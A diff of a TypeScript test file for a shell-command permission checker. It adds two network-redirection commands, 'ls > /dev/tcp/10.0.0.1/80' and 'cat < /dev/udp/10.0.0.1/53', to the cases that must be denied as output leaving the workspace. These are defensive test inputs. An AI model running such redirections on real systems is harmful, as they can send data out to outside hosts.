@@ -158,7 +158,7 @@ describe("built-in command checks", () => {
     expect(evaluate(run("LC_ALL=C ls"), rules, "execute", ctx).rule).toBe("allow:ls");
   });
   test(`${BUILTIN_RULE.REDIRECT_OUTSIDE}: output redirection out of the workspace is denied`, () => {
-    for (const command of ["ls > /etc/motd", "ls >> ../x", "ls > ~/x", "ls > $OUT", "ls &> /tmp/log"]) {
+    for (const command of ["ls > /etc/motd", "ls >> ../x", "ls > ~/x", "ls > $OUT", "ls &> /tmp/log", "ls > /dev/tcp/10.0.0.1/80", "cat < /dev/udp/10.0.0.1/53"]) {
       expect(evaluate(run(command), rules, "execute", ctx).rule).toBe(BUILTIN_RULE.REDIRECT_OUTSIDE);
     }
   });
